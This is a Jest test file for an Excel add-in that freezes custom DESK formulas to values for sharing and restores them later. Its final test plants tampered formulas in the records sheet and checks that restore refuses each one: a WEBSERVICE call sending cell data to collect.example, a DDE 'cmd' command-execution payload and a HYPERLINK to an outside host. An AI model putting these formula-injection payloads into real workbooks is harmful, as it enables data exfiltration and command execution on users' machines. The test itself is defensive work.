/**
 * Prepare for sharing and Restore formulas against the in-memory workbook: DESK formulas (plain, nested,
 * spilled), plain formulas that use them, constants and a user's cells beside them, a protected sheet.
 */
import { fill } from "../../src/i18n/fill";
import { shareEn } from "../../src/i18n/ui/share";
import { freezeDeskFormulasIn } from "../../src/excel/shareFreeze";
import { restoreDeskFormulasIn } from "../../src/excel/shareRestore";
import { RECORDS_SHEET_NAME } from "../../src/core/share/records";
import { PAYLOAD_CAP_BYTES } from "../../src/core/share/chunk";
import { asExcelContext, FakeWorkbook, a1, type Scalar } from "../support/fakeWorkbook";
import { restoreMessage } from "../../src/taskpane/shareMessages";

function sampleWorkbook(): FakeWorkbook {
  const wb = new FakeWorkbook(["Data", "Locked", "Empty"]);
  wb.setValue("Data", "A1", "Amount (EUR)");
  wb.setValue("Data", "A2", 100);
  wb.setValue("Data", "A3", 250);
  wb.setFormula("Data", "B2", '=DESK.CONVERT(A2,"EUR","USD","2021-03-09")', 119.27);
  wb.setFormula("Data", "B3", '=desk.convert(A3,"EUR","USD","2021-03-09")', 298.175);
  wb.setNumberFormat("Data", "B2", "#,##0.00");
  wb.setFormula("Data", "C2", '=ROUND(DESK.CONVERT(A2,"EUR","USD"),2)', 108.1);
  // Plain formulas that use DESK results, and one that only mentions DESK. in a string.
  wb.setFormula("Data", "D2", "=B2*2", 238.54);
  wb.setFormula("Data", "E2", '="DESK.CONVERT(" & A2', "DESK.CONVERT(100");
  // A row of four spilled cells, and a user's cell right after it.
  wb.setFormula("Data", "F2", '=DESK.RATEINFO("EUR","USD","2021-03-09")', [
    [1.1927, "2021-03-09", "ECB", "previous"],
  ]);
  wb.setValue("Data", "J2", "my own note");
  // A 3 × 2 spill, text that looks like a number, an error result.
  wb.setFormula("Data", "A6", '=DESK.SEIZED({"BE";"NL";"DE"},2021)', [
    ["BE", 89.5],
    ["NL", 72.8],
    ["DE", 23.1],
  ]);
  wb.setFormula("Data", "C6", '=DESK.FIGURE("operation.date")', "2021");
  wb.setFormula("Data", "C7", '=DESK.FIGURE("no.such.figure")', "#N/A");
  wb.setFormula("Data", "C8", '=DESK.SOURCE("seized.be.2021")', "=not a formula, a citation");
  wb.setValue("Data", "D6", "007");
  wb.setFormula("Locked", "A1", '=DESK.RATE("EUR","GBP")', 0.86);
  wb.setFormula("Locked", "A2", '=DESK.RATE("EUR","CHF")', 0.93);
  wb.setProtected("Locked", true);
  return wb;
}

describe("Prepare for sharing", () => {
  it("turns every DESK formula into its value, spills included, and nothing else", async () => {
    const wb = sampleWorkbook();
    const before = wb.snapshot();
    const outcome = await freezeDeskFormulasIn(asExcelContext(wb.context()));

    expect(outcome.formulasFrozen).toBe(8);
    // 6 single cells, 4 spilled across F2:I2, 6 across A6:B8.
    expect(outcome.cellsFrozen).toBe(6 + 4 + 6);
    expect(outcome.protectedSheets).toEqual([{ sheet: "Locked", formulas: 2 }]);

    const data = before.find((s) => s.name === "Data");
    const frozen = wb.snapshot().find((s) => s.name === "Data");
    for (const address of [
      "B2",
      "B3",
      "C2",
      "F2",
      "G2",
      "H2",
      "I2",
      "A6",
      "B6",
      "A7",
      "B8",
      "C6",
      "C7",
      "C8",
    ]) {
      expect(frozen?.cells[address].value).toBe(data?.cells[address].value);
      expect(frozen?.cells[address].formula).toBeUndefined();
    }
    expect(typeof frozen?.cells.C6.value).toBe("string");
    expect(frozen?.cells.B2.numberFormat).toBe("#,##0.00");
    expect(frozen?.cells.D2).toEqual(data?.cells.D2);
    expect(frozen?.cells.E2).toEqual(data?.cells.E2);
    expect(frozen?.cells.J2).toEqual(data?.cells.J2);
    expect(frozen?.cells.D6).toEqual(data?.cells.D6);
    expect(wb.snapshot().find((s) => s.name === "Locked")).toEqual(
      before.find((s) => s.name === "Locked")
    );
    expect(wb.findSheet(RECORDS_SHEET_NAME)?.visibility).toBe("VeryHidden");
  });

  it("then Restore formulas gives back exactly the workbook it started with", async () => {
    const wb = sampleWorkbook();
    const before = wb.snapshot();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(wb.snapshot()).not.toEqual(before);
    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome.formulasRestored).toBe(8);
    expect(outcome.nothingFrozen).toBe(false);
    expect(wb.snapshot()).toEqual(before);
  });

  it("a second Prepare for sharing changes nothing and says so", async () => {
    const wb = sampleWorkbook();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    const once = wb.snapshot();
    const again = await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(again.formulasFrozen).toBe(0);
    expect(again.alreadyFrozen).toBe(8);
    expect(wb.snapshot()).toEqual(once);
  });

  it("Restore formulas with nothing frozen changes nothing and says so", async () => {
    const wb = sampleWorkbook();
    const before = wb.snapshot();
    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome).toMatchObject({ nothingFrozen: true, formulasRestored: 0 });
    expect(wb.snapshot()).toEqual(before);
  });

  it("a frozen cell edited since is left as the user made it, and its formula stays recorded", async () => {
    const wb = sampleWorkbook();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    wb.setValue("Data", "B3", 300);
    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome.formulasRestored).toBe(7);
    expect(outcome.kept.edited).toBe(1);
    expect(wb.valueAt("Data", "B3")).toBe(300);
    expect(wb.formulaAt("Data", "B2")).toBe('=DESK.CONVERT(A2,"EUR","USD","2021-03-09")');
    expect(wb.findSheet(RECORDS_SHEET_NAME)).toBeDefined();
  });

  it("a DESK formula typed again over a frozen cell is frozen on the next run, and restore brings the newer one", async () => {
    const wb = sampleWorkbook();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    wb.setFormula("Data", "B3", '=DESK.CONVERT(A3,"EUR","GBP")', 215);
    const second = await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(second.formulasFrozen).toBe(1);
    await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(wb.formulaAt("Data", "B3")).toBe('=DESK.CONVERT(A3,"EUR","GBP")');
    expect(wb.findSheet(RECORDS_SHEET_NAME)).toBeUndefined();
  });

  it("never writes to a protected sheet, and restores it after it is unprotected", async () => {
    const wb = sampleWorkbook();
    wb.setProtected("Locked", false);
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    wb.setProtected("Locked", true);
    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome.kept.protected).toBe(2);
    expect(outcome.protectedSheets).toEqual(["Locked"]);
    expect(wb.formulaAt("Locked", "A1")).toBeUndefined();
    wb.setProtected("Locked", false);
    const later = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(later.formulasRestored).toBe(2);
    expect(wb.formulaAt("Locked", "A1")).toBe('=DESK.RATE("EUR","GBP")');
  });
});

/** A sheet with `count` DESK formulas in column B, one spilled pair every 100 rows, and plain cells beside. */
function bigWorkbook(count: number, formulaPadding = 0): FakeWorkbook {
  const wb = new FakeWorkbook(["Data"]);
  const pad = "+0".repeat(formulaPadding);
  for (let i = 0; i < count; i++) {
    const row = i + 1;
    wb.setValue("Data", a1(i, 0), i * 10);
    if (i % 100 === 99) {
      wb.setFormula("Data", a1(i, 1), `=DESK.RATEINFO("EUR","USD",A${row})${pad}`, [
        [1 + i / 1e5, "2021-03-09"],
      ]);
    } else {
      wb.setFormula("Data", a1(i, 1), `=DESK.CONVERT(A${row},"EUR","USD")${pad}`, i * 11.9);
    }
    // Text past ASCII: the payload cap counts UTF-8 bytes, where "€" takes 3.
    wb.setValue("Data", a1(i, 3), `row ${row} · €`);
  }
  return wb;
}

describe("round trips", () => {
  async function countSyncs(wb: FakeWorkbook, action: "freeze" | "restore"): Promise<number> {
    const context = wb.context();
    const sync = jest.spyOn(context, "sync");
    if (action === "freeze") await freezeDeskFormulasIn(asExcelContext(context));
    else await restoreDeskFormulasIn(asExcelContext(context));
    return sync.mock.calls.length;
  }

  it("do not grow with the number of cells: 10 and 10,000 DESK formulas take the same syncs", async () => {
    const small = bigWorkbook(10);
    const large = bigWorkbook(10_000);
    const freezeSmall = await countSyncs(small, "freeze");
    const freezeLarge = await countSyncs(large, "freeze");
    const restoreSmall = await countSyncs(small, "restore");
    const restoreLarge = await countSyncs(large, "restore");
    expect(freezeLarge).toBe(freezeSmall);
    expect(restoreLarge).toBe(restoreSmall);
    expect(freezeLarge).toBe(5);
    expect(restoreLarge).toBe(6);
  });

  it("a workbook over the 5 MB cap goes in chunks, none over the cap, and comes back whole", async () => {
    const wb = bigWorkbook(30_000, 40);
    const before = wb.snapshot();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(wb.snapshot()).toEqual(before);
    const largest = Math.max(...wb.requests.map((r) => Math.max(r.requestBytes, r.responseBytes)));
    expect(largest).toBeLessThanOrEqual(PAYLOAD_CAP_BYTES);
    const total = wb.requests.reduce((n, r) => n + r.requestBytes + r.responseBytes, 0);
    expect(total).toBeGreaterThan(2 * PAYLOAD_CAP_BYTES);
  });

  it("a read that Excel refuses as too large is read again in halves", async () => {
    const wb = bigWorkbook(2_000);
    wb.responseCapBytes = 100_000;
    const before = wb.snapshot();
    const outcome = await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome.formulasFrozen).toBe(2_000);
    wb.responseCapBytes = PAYLOAD_CAP_BYTES;
    await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(wb.snapshot()).toEqual(before);
  });
});

describe("a DESK formula that Excel on the web shows as _xldudf_ (office-js issue 5611)", () => {
  it("is frozen like any DESK formula, and restored under its real name", async () => {
    const wb = new FakeWorkbook(["Data"]);
    wb.setFormula("Data", "A1", '=ROUND(_xldudf_DESK_RATE("EUR","USD","2021-03-09"),2)', 1.19);
    const frozen = await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(frozen.formulasFrozen).toBe(1);
    expect(wb.formulaAt("Data", "A1")).toBeUndefined();
    expect(wb.valueAt("Data", "A1")).toBe(1.19);
    const restored = await restoreDeskFormulasIn(asExcelContext(wb.context()));
    expect(restored.formulasRestored).toBe(1);
    expect(wb.formulaAt("Data", "A1")).toBe('=ROUND(DESK.RATE("EUR","USD","2021-03-09"),2)');
  });
});

describe("a user's sheet named like the records sheet", () => {
  it("is left alone, and nothing is frozen", async () => {
    const wb = sampleWorkbook();
    wb.addSheet(RECORDS_SHEET_NAME);
    wb.setValue(RECORDS_SHEET_NAME, "A1", "my formulas");
    const before = wb.snapshot();
    const outcome = await freezeDeskFormulasIn(asExcelContext(wb.context()));
    expect(outcome).toMatchObject({ recordsSheetTaken: true, formulasFrozen: 0 });
    expect(wb.snapshot()).toEqual(before);
  });
});

describe("Restore formulas from a tampered records sheet", () => {
  /** The records sheet's rows as the fake workbook holds them, by the cells each names (column B). */
  function recordRows(wb: FakeWorkbook): Map<string, number> {
    const rows = new Map<string, number>();
    for (let row = 3; wb.valueAt(RECORDS_SHEET_NAME, `A${row}`) !== ""; row++)
      rows.set(
        `${wb.valueAt(RECORDS_SHEET_NAME, `A${row}`)}!${wb.valueAt(RECORDS_SHEET_NAME, `B${row}`)}`,
        row
      );
    return rows;
  }

  function setRecord(
    wb: FakeWorkbook,
    row: number | undefined,
    fields: Record<string, Scalar>
  ): void {
    if (row === undefined) throw new Error("no such record");
    for (const [column, value] of Object.entries(fields))
      wb.setValue(RECORDS_SHEET_NAME, `${column}${row}`, value);
  }

  it("writes back only DESK formulas that stay inside the workbook, only where they were frozen, and names the rest", async () => {
    const wb = sampleWorkbook();
    const before = wb.snapshot();
    await freezeDeskFormulasIn(asExcelContext(wb.context()));
    const rows = recordRows(wb);
    const tampered: Record<string, string> = {
      "Data!B2": '=DESK.CONVERT(A2,"EUR","USD")+WEBSERVICE("https://collect.example/?"&A1)',
      "Data!B3": '=cmd|\' /C calc\'!A0+DESK.RATE("EUR","USD")',
      "Data!C2": '=ROUND(DESK.CONVERT([1]Prices!A2,"EUR","USD"),2)',
      "Data!C6": '=HYPERLINK("https://collect.example/",DESK.FIGURE("operation.date"))',
      "Data!C8": "=SUM(A2:A3)",
    };
    for (const [cells, formula] of Object.entries(tampered))
      setRecord(wb, rows.get(cells), { G: formula });
    // A record moved onto the records sheet itself, and a new one that claims a cell of another record.
    setRecord(wb, rows.get("Data!F2:I2"), { A: RECORDS_SHEET_NAME, C: 0, D: 0 });
    setRecord(wb, Math.max(...rows.values()) + 1, {
      A: "Data",
      B: "A7",
      C: 6,
      D: 0,
      E: 1,
      F: 1,
      G: '=DESK.FIGURE("operation.date")',
      H: "00000000",
    });
    // One that claims most of the sheet.
    setRecord(wb, Math.max(...rows.values()) + 2, {
      A: "Data",
      B: "A1:XFD1048576",
      C: 0,
      D: 0,
      E: 1_048_576,
      F: 16_384,
      G: '=DESK.FIGURE("operation.date")',
      H: "00000000",
    });

    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));

    // Only the one record left as freezing wrote it (C7) goes back.
    expect(outcome.formulasRestored).toBe(1);
    expect(wb.formulaAt("Data", "C7")).toBe('=DESK.FIGURE("no.such.figure")');
    expect(
      Object.fromEntries(
        outcome.refused.map((r) => [
          r.cells,
          fill(shareEn[r.why.key], r.why.values ?? {}, "en").replace(/ \(.*\)$/, ""),
        ])
      )
    ).toEqual({
      "Data!B2": "it calls WEBSERVICE, which reaches outside the workbook",
      "Data!B3": "it holds something that is not a formula token",
      "Data!C2": "it refers to another file",
      "Data!C6": "it calls HYPERLINK, which reaches outside the workbook",
      "Data!C8": "it calls no DESK function",
      [`${RECORDS_SHEET_NAME}!A1:D1`]: "it points into the records sheet itself",
      "Data!A6:B8": "its cells overlap those of another kept formula",
      "Data!A7": "its cells overlap those of another kept formula",
      "Data!A1:XFD1048576": "it claims more cells than a DESK formula fills",
    });
    // Nothing of the tampered formulas reached a cell: every other frozen cell keeps its frozen value.
    const data = before.find((s) => s.name === "Data");
    const after = wb.snapshot().find((s) => s.name === "Data");
    for (const [address, cell] of Object.entries(after?.cells ?? {})) {
      if (address === "C7") continue;
      // A formula still there is one the user had before (B2*2 and the like), never a written one.
      if (cell.formula !== undefined) expect(cell.formula).toBe(data?.cells[address].formula);
      expect(cell.formula ?? "").not.toMatch(/WEBSERVICE|cmd\||\[1\]|HYPERLINK|SUM\(A2/);
      expect([address, cell.value]).toEqual([address, data?.cells[address].value]);
    }
    expect(
      wb.snapshot().find((s) => s.name === RECORDS_SHEET_NAME)?.cells.A1.formula
    ).toBeUndefined();
    // The refused records stay, so that nothing frozen is lost, and the pane names each.
    expect(wb.findSheet(RECORDS_SHEET_NAME)).toBeDefined();
    expect(restoreMessage(outcome)).toMatch(
      /^Restored 1 DESK formula\. Not restored, the cells keep their values: Data!B2 =DESK\.CONVERT/
    );
  });
});
